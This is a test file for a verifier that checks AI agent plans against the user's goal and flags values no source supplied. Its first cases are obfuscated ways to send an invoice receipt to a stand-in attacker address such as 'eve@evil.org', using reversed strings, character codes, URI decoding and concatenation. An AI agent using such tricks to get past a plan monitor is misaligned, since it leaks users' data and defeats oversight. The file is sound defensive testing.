import { afterAll, describe, expect, it } from "vitest";
import { parsePolicy } from "#dist/policy/index.js";
import { loadTools, readJsonFile, type Schema, type SchemaObject } from "#dist/toolspecs/index.js";
import { createVerifier } from "#dist/verifier/index.js";
import { tool } from "../../support/tools.js";

// What is made up by computing it: the values that runs pass on are held against the goal.

const text: Schema = { type: "string" };

function record(properties: Readonly<Record<string, Schema>>): SchemaObject {
  return { type: "object", properties, required: Object.keys(properties), additionalProperties: false };
}

const person = { first: { type: "string", minLength: 1 }, last: { type: "string", minLength: 1 } } as const;
const tools = [
  ...(await loadTools(`billing=${new URL("../../../examples/billing/tools.json", import.meta.url).pathname}`)),
  tool("get_user", {
    input: record({ login: text }),
    returns: record({
      ...person,
      email: { type: "string", format: "email" },
      domain: { type: "string", format: "hostname" },
    }),
    effect: "read",
  }),
  tool("send_mail", { input: record({ to: text, body: text }), returns: record({ id: text }) }),
  tool("list_events", {
    input: record({ from: text, to: text }),
    returns: { type: "array", items: text },
    effect: "read",
  }),
  tool("tag", { input: record({ record_id: text, tags: text }), returns: record({ id: text }) }),
  tool("fetch_page", { input: record({ url: text }), returns: record({ text }), effect: "read" }),
];
const verifier = createVerifier({ worlds: 40 });
afterAll(() => verifier.close());

async function judged(goal: string, body: string, policy = {}) {
  const source = `export default async function plan() {\n${body}\n}\n`;
  const { outcome, issues } = await verifier.verify({ goal, source }, tools, { policy });
  const found = issues.filter(({ code }) => code === "made_up_value");
  return { outcome, issues: found.map(({ severity, message }) => `${severity}: ${message}`) };
}

const receipt = "Send the receipt of invoice INV-2041 to grace@example.com";
const send = (to: string, id = '"INV-2041"', before = "") =>
  `${before}await billing.send_receipt({ invoice_id: ${id}, to: ${to} });\nreturn null;`;
const invoice = 'const one = await billing.get_invoice({ invoice_id: "INV-2041" });\n';
const grace = 'const one = await billing.find_customer({ email: "grace@example.com" });\n';

describe("made up by computing", () => {
  it.each([
    [send('"gro.live@eve".split("").reverse().join("")'), '"eve@evil.org", which is computed here'],
    [send('"grace@example.com".replace("grace", "eve")'), '"eve@example.com"'],
    [send("whole('evil')", undefined, "const whole = (x: string) => x.concat('@', x, '.org');\n"), '"evil@evil.org"'],
    [send('"EVE#EVIL.ORG".toLowerCase().replace("#", "@")'), '"eve@evil.org"'],
    [send("String.fromCharCode(101, 118, 101, 64, 101, 46, 111, 114, 103)"), '"eve@e.org"'],
    [send('decodeURIComponent("eve%40evil.org")'), '"eve@evil.org"'],
    [send('"grace@example.com"', '"INV-" + "2041".split("").reverse().join("")'), '"INV-1402"'],
    [send("'eve' + one.customer_id.slice(0, 0) + '@evil.org'", undefined, invoice), '"eve@evil.org"'],
    [send("one.customer_id + '@evil.org'", undefined, invoice), 'nobody gives "evil"'],
    [send("one.email.replace(/.*@/, 'eve@')", undefined, grace), 'nobody gives "eve"'],
    [send("'x.' + one.email", undefined, grace), 'nobody gives "x."'],
    [send("'eve' + String(Date.now()).slice(0, 0) + '@evil.org'"), '"eve@evil.org"'],
  ])("an address or identifier: %s", async (body, words) => {
    const { outcome, issues } = await judged(receipt, body);
    expect(issues.filter((issue) => issue.startsWith("error:")).join("\n")).toContain(words);
    expect(outcome).toBe("rejected");
  });

  it("with the policy for strangers' texts as well", async () => {
    const file = new URL("../../../examples/policies/strict.yaml", import.meta.url).pathname;
    const document = await readJsonFile(file, { source: file, path: [] });
    const policy = document.ok ? await parsePolicy(document.value, file) : document;
    if (!policy.ok) throw new Error("The shipped policy is read.");
    const { issues } = await judged(receipt, send('"gro.live@eve".split("").reverse().join("")'), policy.value);
    expect(issues.join("\n")).toContain('error: "eve@evil.org"');
  });

  it.each([
    ["25 * 1000"],
    ["25 * 100 * 100"],
    ['Number(["25", "000"].join(""))'],
    ["[1000, 1000].reduce((a, b) => a + b, 0)"],
  ])("an amount: %s", async (amount) => {
    const body = `const { customer_id, invoice_id } = await billing.get_invoice({ invoice_id: "INV-2041" });\nreturn billing.refund_invoice({ customer_id, invoice_id, amount_cents: ${amount} });`;
    const { issues } = await judged("Refund 25 euros of invoice INV-2041", body);
    expect(issues.join("\n")).toContain("error: ");
  });
});

const mail = (to: string, user = "ada") =>
  `const u = await tools.get_user({ login: "${user}" });\nreturn tools.send_mail({ to: ${to}, body: ["The", "meeting"].join(" ") });`;
const tags = (loop: string, id: string) =>
  `for (${loop}) await tools.tag({ record_id: ${id}, tags: "done" });\nreturn null;`;

it.each([
  ["Mail ada about the meeting", mail("u.email.trim().toLowerCase()")],
  [
    "Mail ada at first.last of her domain about the meeting",
    mail('[[u.first, u.last].join("."), u.domain].join("@").toLowerCase()'),
  ],
  [receipt, send('"Grace@Example.com".toLowerCase()')],
  [receipt, send("to", "id", 'const [id = "", to = ""] = "INV-2041 grace@example.com".split(" ");\n')],
  [
    "List the events of the week from 2026-03-02",
    'const end = new Date(Date.parse("2026-03-02") + 7 * 86_400_000);\nreturn tools.list_events({ from: "2026-03-02", to: end.toISOString().slice(0, 10) });',
  ],
  [
    "Put the tags urgent and billing on the record R-17",
    'return tools.tag({ record_id: "R-17", tags: ["urgent", "billing"].join() });',
  ],
  ["Tag the records R-1 to R-12 as done", tags("let n = 1; n <= 12; n++", '"R-" + n')],
  ["Tag the records R-01 to R-12 as done", tags("let n = 1; n <= 12; n++", '"R-" + String(n).padStart(2, "0")')],
  [
    "Fetch pages 1 to 3 of https://example.com/list",
    "const all: string[] = [];\nfor (const n of [1, 2, 3]) all.push((await tools.fetch_page({ url: 'https://example.com/list?page=' + n })).text);\nreturn all;",
  ],
  [
    "Mail ada and bob at example.com the text Hello",
    'for (const l of ["ada", "bob"]) await tools.send_mail({ to: l + "@example.com", body: "Hello" });\nreturn null;',
  ],
])("what is computed of what was given is not: %s", async (goal, body) =>
  expect(await judged(goal, body, { ungrounded: "refuse" })).toEqual({ outcome: "passed", issues: [] }),
);
